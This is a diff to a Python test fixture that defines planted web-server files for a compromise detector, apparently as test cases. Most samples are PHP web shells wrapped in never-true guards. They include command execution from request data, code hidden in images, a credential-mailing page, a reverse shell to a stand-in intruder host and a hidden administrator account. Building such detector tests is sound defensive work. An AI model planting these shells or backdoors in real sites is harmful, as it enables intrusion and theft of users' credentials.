@@ -35,11 +35,13 @@ _PAYLOAD: Final = base64.b64encode(b"echo 'this is never shown';").decode()
 _LINE: Final = f"<?php{' ' * 140}if ({_NEVER}) {{ eval(base64_decode('{_PAYLOAD}')); }} ?>"
 
 
-def _put(path: str, text: str | bytes, time: int = NIGHT) -> Act:
+def put(path: str, text: str | bytes, time: int = NIGHT) -> Act:
+    """The act of putting a file of the web server's there."""
     return written(path, text, owner=WWW_DATA, time=time)
 
 
-def _guarded(*lines: str) -> str:
+def guarded(*lines: str) -> str:
+    """A program of these lines, which never come to act."""
     return "".join([f"<?php\nif ({_NEVER}) {{\n", *(f"    {line}\n" for line in lines), "}\n"])
 
 
@@ -80,9 +82,9 @@ IMPLANTS: Final = (
         f"{blog.ROOT}{WEB_SHELL}",
         "the web shell that came in by an upload",
         "web-php-runs-request",
-        _put(
+        put(
             f"{blog.ROOT}{WEB_SHELL}",
-            _guarded("eval(base64_decode($_POST['k']));"),
+            guarded("eval(base64_decode($_POST['k']));"),
             UPLOAD,
         ),
         also=("web-php-in-data-place",),
@@ -91,9 +93,9 @@ IMPLANTS: Final = (
         f"{_PUBLIC}/js/jquery.min.php",
         "a web shell that runs commands",
         "web-php-runs-request",
-        _put(
+        put(
             f"{_PUBLIC}/js/jquery.min.php",
-            _guarded("$f = 'sys' . 'tem';", "$f($_REQUEST['c']);"),
+            guarded("$f = 'sys' . 'tem';", "$f($_REQUEST['c']);"),
         ),
     ),
     *(
@@ -111,7 +113,7 @@ IMPLANTS: Final = (
             path,
             "the same program under three names",
             "web-php-runs-request",
-            _put(path, _guarded("assert($_POST['q']);")),
+            put(path, guarded("assert($_POST['q']);")),
             also=("crowd-same-content",),
         )
         for path in COPIES
@@ -120,16 +122,16 @@ IMPLANTS: Final = (
         _ALIKE,
         "a program whose name reads as index.php",
         "web-php-runs-request",
-        _put(_ALIKE, _guarded("eval($_REQUEST['i']);")),
+        put(_ALIKE, guarded("eval($_REQUEST['i']);")),
         also=("crowd-look-alike-name",),
     ),
     Implant(
         _ICON,
         "code in an icon",
         "web-php-in-image",
-        _put(
+        put(
             _ICON,
-            ico("favicon") + _guarded("eval(gzinflate(base64_decode($_COOKIE['s'])));").encode(),
+            ico("favicon") + guarded("eval(gzinflate(base64_decode($_COOKIE['s'])));").encode(),
         ),
     ),
     Implant(
@@ -142,9 +144,9 @@ IMPLANTS: Final = (
         f"{_PUBLIC}/account/confirm/index.php",
         "a page that asks for a password and mails it",
         "web-credential-mailer",
-        _put(
+        put(
             f"{_PUBLIC}/account/confirm/index.php",
-            _guarded(
+            guarded(
                 "$text = $_POST['email'] . ' ' . $_POST['password'] . ' ' . $_POST['card'];",
                 "mail('collector@drop.example', 'one more', $text);",
             )
@@ -155,37 +157,37 @@ IMPLANTS: Final = (
         f"{_UPLOADS}/.htaccess",
         "a rule that makes pictures run",
         "web-handler-runs-data",
-        _put(f"{_UPLOADS}/.htaccess", "AddHandler application/x-httpd-php .jpg .ico\n"),
+        put(f"{_UPLOADS}/.htaccess", "AddHandler application/x-httpd-php .jpg .ico\n"),
     ),
     Implant(
         f"{_UPLOADS}/2026/02/quay-11.jpg",
         "a picture that holds code",
         "web-php-in-image",
-        _put(
+        put(
             f"{_UPLOADS}/2026/02/quay-11.jpg",
-            jpeg("quay 11") + _guarded("eval(base64_decode($_POST['k']));").encode(),
+            jpeg("quay 11") + guarded("eval(base64_decode($_POST['k']));").encode(),
         ),
     ),
     Implant(
         f"{_PUBLIC}/.user.ini",
         "a file that is run before every page",
         "web-php-prepend",
-        _put(f"{_PUBLIC}/.user.ini", f"auto_prepend_file = {_PREPENDED}\n"),
+        put(f"{_PUBLIC}/.user.ini", f"auto_prepend_file = {_PREPENDED}\n"),
     ),
     Implant(
         _PREPENDED,
         "code under a hidden name",
         "web-php-hidden-name",
-        _put(_PREPENDED, _guarded("assert(str_rot13($_COOKIE['lang']));")),
+        put(_PREPENDED, guarded("assert(str_rot13($_COOKIE['lang']));")),
         also=("web-php-runs-request",),
     ),
     Implant(
         f"{_PUBLIC}/css/up.php",
         "a page that takes any file",
         "web-php-uploader",
-        _put(
+        put(
             f"{_PUBLIC}/css/up.php",
-            _guarded("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
+            guarded("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
         ),
     ),
     Implant(
@@ -199,9 +201,52 @@ IMPLANTS: Final = (
         ),
     ),
     Implant(
+        f"{_PUBLIC}/css/print.php",
+        "a page that writes a web shell",
+        "web-php-drops-program",
+        put(
+            f"{_PUBLIC}/css/print.php",
+            guarded("file_put_contents('../screen.php', '<?php eval($_POST[\"k\"]);');"),
+        ),
+    ),
+    Implant(
+        f"{_PUBLIC}/css/link.php",
+        "a page that connects a shell to another machine",
+        "web-php-shell-calls-out",
+        put(
+            f"{_PUBLIC}/css/link.php",
+            guarded(
+                f"$s = fsockopen('{INTRUDER}', 443);",
+                "$p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes);",
+            ),
+        ),
+    ),
+    Implant(
+        f"{blog.ROOT}/content/plugins/mail-list/support.php",
+        "a plug-in that makes an administrator",
+        "web-php-grants-account",
+        put(
+            f"{blog.ROOT}/content/plugins/mail-list/support.php",
+            guarded(
+                "$id = wp_create_user('helpdesk', 'made-up', 'helpdesk@drop.example');",
+                "(new WP_User($id))->set_role('administrator');",
+            ),
+        ),
+    ),
+    Implant(
+        f"{blog.ROOT}/includes/terms.php",
+        "a line behind blanks",
+        "web-php-hidden-line",
+        put(
+            f"{blog.ROOT}/includes/terms.php",
+            f"<?php{' ' * 200}if ({_NEVER}) {{ ob_start('{'x' * 40}'); }}\n"
+            "function blog_terms(): array { return []; }\n",
+        ),
+    ),
+    Implant(
         f"{_PUBLIC}/.htaccess",
         "a rule that sends visitors of search engines elsewhere",
         "web-htaccess-redirect",
-        _put(f"{_PUBLIC}/.htaccess", _REDIRECT),
+        put(f"{_PUBLIC}/.htaccess", _REDIRECT),
     ),
 )
